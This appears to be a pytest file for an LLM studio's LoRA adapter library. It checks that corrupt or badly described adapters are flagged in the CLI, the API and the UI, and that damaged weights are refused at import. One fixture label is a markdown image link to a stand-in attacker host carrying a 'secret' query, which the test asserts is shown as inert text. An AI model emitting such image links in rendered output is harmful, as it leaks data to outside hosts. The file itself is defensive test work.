"""One malformed adapter in the library: the others stay usable everywhere (the Adapters page,
`adapters list`, `GET /adapters`), and damaged weights are refused at import, not at first use.
The adapters are written by hand: real safetensors files and metadata, no training needed."""

import json
import os
import subprocess
import sys

import pytest
import torch
from fastapi.testclient import TestClient
from safetensors.torch import save_file
from streamlit.testing.v1 import AppTest

from core.lora import adapter_ops
from core.lora.adapters import AdapterError, list_adapters
from core.registry import linked_models_dir
from core.settings import PROJECT_ROOT, load_settings
from tests.test_archives import entry, raw_zip

PREFIX = "base_model.model.model.layers.0.self_attn.q_proj"
IMAGE_LABEL = "![x](http://attacker.example/?q=secret)"


def write_adapter(folder, meta: dict | None, tensors: dict | None = None, r: int = 2,
                  weights: bytes | None = None) -> None:
    folder.mkdir(parents=True)
    (folder / "adapter_config.json").write_text(json.dumps(
        {"peft_type": "LORA", "r": r, "lora_alpha": 4, "target_modules": ["q_proj"],
         "task_type": "CAUSAL_LM"}))
    if weights is None:
        save_file(tensors or {f"{PREFIX}.lora_A.weight": torch.zeros(2, 8),
                              f"{PREFIX}.lora_B.weight": torch.zeros(8, 2)},
                  folder / "adapter_model.safetensors")
    else:
        (folder / "adapter_model.safetensors").write_bytes(weights)
    if meta is not None:
        (folder / "studio-adapter.json").write_text(json.dumps(meta))


@pytest.fixture
def library(studio_env, tmp_path, monkeypatch):
    models = linked_models_dir(tmp_path / "models", PROJECT_ROOT / "models")
    root = models / "adapters"
    write_adapter(root / "good", {"name": "good", "base": "smollm2-135m-instruct",
                                  "labels": ["invoice", IMAGE_LABEL], "evaluation": None,
                                  "combined": None, "created": 1.7e9})
    write_adapter(root / "odd-meta", {"name": "odd-meta", "labels": 5, "evaluation": [1]})
    write_adapter(root / "corrupt", {"name": "corrupt"},
                  weights=b"\x10\x00\x00\x00\x00\x00\x00\x00{not a header}")
    monkeypatch.setenv("STUDIO_MODELS_DIR", str(models))
    return models


def test_the_library_lists_every_adapter_and_says_what_is_wrong(library):
    infos = {i.name: i for i in list_adapters(library)}
    assert infos["good"].problem is None and infos["good"].meta.test_accuracy is None
    assert "'labels' has the wrong type (int)" in infos["odd-meta"].problem
    assert "corrupt/adapter_model.safetensors: not a readable safetensors file" in \
        infos["corrupt"].problem


def test_cli_adapters_list_and_show(library):
    env = {**os.environ, "STUDIO_MODELS_DIR": str(library)}
    done = subprocess.run([sys.executable, "-m", "core", "adapters", "list"], env=env,
                          cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "good: base smollm2-135m-instruct, 2 labels, r=None" in done.stdout
    assert "odd-meta: cannot be used:" in done.stdout and "corrupt: cannot be used" in done.stdout
    done = subprocess.run([sys.executable, "-m", "core", "adapters", "show", "odd-meta"],
                          env=env, cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.count("\n") == 1 and "'labels' has the wrong type" in done.stderr


def test_api_lists_adapters_with_their_problems(library):
    from core.api import create_app

    listed = TestClient(create_app(load_settings())).get("/adapters")
    assert listed.status_code == 200
    problems = {a["name"]: a["problem"] for a in listed.json()}
    assert problems["good"] is None and problems["odd-meta"] and problems["corrupt"]


def test_adapters_page_shows_the_broken_ones_and_no_remote_image(library):
    at = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=120).run()
    at = at.switch_page("app_pages/adapters.py").run()
    assert not at.exception
    assert list(at.dataframe[0].value["name"]) == ["corrupt", "good", "odd-meta"]
    at.selectbox(key="adapter-details").set_value("good").run()
    assert not at.exception
    shown = "\n".join(m.value for m in at.markdown)
    assert "invoice" in shown and "](http" not in shown and "![" not in shown
    assert "`http:\u200b//attacker.example/?q=secret`" in shown  # the URL as code, inert
    assert "No test results recorded for this adapter." in [c.value for c in at.caption]
    at.selectbox(key="adapter-details").set_value("odd-meta").run()
    assert not at.exception
    assert any("cannot be used" in e.value for e in at.error)


@pytest.mark.parametrize("weights, message", [
    (b"\x10\x00\x00\x00\x00\x00\x00\x00{not a header}", "not a readable safetensors file"),
    ({"other.weight": torch.zeros(2, 2)}, "no matching lora_A/lora_B tensor pairs"),
    ({f"{PREFIX}.lora_A.weight": torch.zeros(4, 8), f"{PREFIX}.lora_B.weight": torch.zeros(8, 4)},
     "its tensors have rank 4, adapter_config.json says r=2"),
    ({"base_model.model.mlp.up_proj.lora_A.weight": torch.zeros(2, 8),
      "base_model.model.mlp.up_proj.lora_B.weight": torch.zeros(8, 2)},
     "LoRA tensors for base_model.model.mlp.up_proj, which adapter_config.json's "
     "target_modules does not name"),
])
def test_damaged_weights_are_refused_at_import(tmp_path, weights, message):
    folder = tmp_path / "made" / "a"
    if isinstance(weights, bytes):
        write_adapter(folder, None, weights=weights)
    else:
        write_adapter(folder, None, weights)
    data = raw_zip([entry(f"a/{p.name}", p.read_bytes()) for p in folder.iterdir()])
    (tmp_path / "models").mkdir()
    with pytest.raises(AdapterError, match=message):
        adapter_ops.import_zip(tmp_path / "models", data, "damaged")
    assert not (tmp_path / "models" / "adapters" / "damaged").exists()
